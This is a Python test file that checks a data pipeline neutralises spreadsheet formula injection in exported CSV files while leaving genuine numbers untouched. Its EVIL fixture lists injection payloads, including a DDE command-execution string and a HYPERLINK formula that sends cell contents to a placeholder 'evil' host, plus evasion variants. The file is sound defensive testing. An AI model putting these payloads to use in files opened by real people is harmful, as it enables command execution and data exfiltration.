"""No cell of any CSV that leaves runs in a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from job_scene import Scene

from pipelines.spreadsheets import (
    SIGNS,
    STARTERS,
    harmless,
    harmless_frame,
    harmless_or_number,
)
from pipelines.store import Store

EVIL = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?x="&A1,"pago")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "＝1+1",
    'tornillo;=1+1;"',
    "tornillo\n=1+1",
)


@given(st.text())
def test_no_cell_begins_a_formula_and_none_loses_a_letter(text: str) -> None:
    cell = str(harmless(text))
    assert not cell.lstrip(" ").startswith(STARTERS)
    assert cell.replace("'", "") == text.replace("'", "")


@given(st.text(alphabet="a1.,-+=@e;\t\n ", max_size=8))
def test_what_is_left_as_it_is_because_it_is_a_number_is_one(text: str) -> None:
    cell = harmless_or_number(text)
    if cell.startswith(STARTERS):
        assert float(cell.replace(",", ".")) is not None
        assert not set(cell[1:]) - set("0123456789.,eE+-")


@pytest.mark.parametrize("number", ["-1", "+3", "-0.5", "-1,25", "-.5", "-1e-7", "12", "1E+5"])
def test_numbers_stay_numbers(number: str) -> None:
    assert harmless_or_number(number) == number


@pytest.mark.parametrize("text", ["-1+1", "-", "+", "--1", "-1;=1", "-1e", "+52 55 1234", "-1\n=2"])
def test_what_only_looks_like_a_number_does_not(text: str) -> None:
    assert not harmless_or_number(text).startswith(STARTERS)


def test_a_result_of_a_job_is_safe_to_open_names_of_columns_and_errors_too(
    store: Store, tmp_path: Path
) -> None:
    scene = Scene(store, tmp_path)
    rows = io.StringIO(newline="")
    csv.writer(rows).writerows([["text", "=1+1", "note"], *([evil, evil, "-3.5"] for evil in EVIL)])
    job = scene.hand_in(rows.getvalue().encode(), kind="csv", format="csv")
    scene.work()
    body = scene.result(job).decode()
    found = list(csv.reader(io.StringIO(body)))
    assert [row[2] for row in found[1:]] == ["-3.5"] * len(EVIL)
    for cell in (cell for row in found for cell in row if cell != "-3.5"):
        assert not cell.lstrip(" ").startswith(STARTERS)
    for cell in re.split(r"[;\t\r\n]", body):
        assert cell.lstrip(' "')[:1] not in set(SIGNS)


def test_lists_in_a_result_are_safe_to_open_too(store: Store, tmp_path: Path) -> None:
    scene = Scene(store, tmp_path)
    line = b'{"text": "a", "more": ["x;=1+1;y", {"z": "a;@b"}]}\n'
    job = scene.hand_in(line, kind="jsonl", format="csv")
    scene.work()
    body = scene.result(job).decode()
    assert "1+1" in body
    for cell in body.split(";"):
        assert cell[:1] not in set(SIGNS)


def test_rows_that_a_training_set_aside_are_safe_to_open() -> None:
    rows = pd.DataFrame({"=a": ["=1+1", "-3", None], "b": [1.5, -2.0, 0.0]}, index=[5, 7, 9])
    assert harmless_frame(rows).to_csv(index_label="line").splitlines() == [
        "line,'=a,b",
        "5,'=1+1,1.5",
        "7,-3,-2.0",
        "9,,0.0",
    ]


def test_lines_of_json_and_parquet_keep_every_text_as_it_was(store: Store, tmp_path: Path) -> None:
    scene = Scene(store, tmp_path)
    job = scene.hand_in(b'{"text": "=1+1"}\n', kind="jsonl", format="jsonl")
    scene.work()
    assert b'"text":"=1+1"' in scene.result(job)
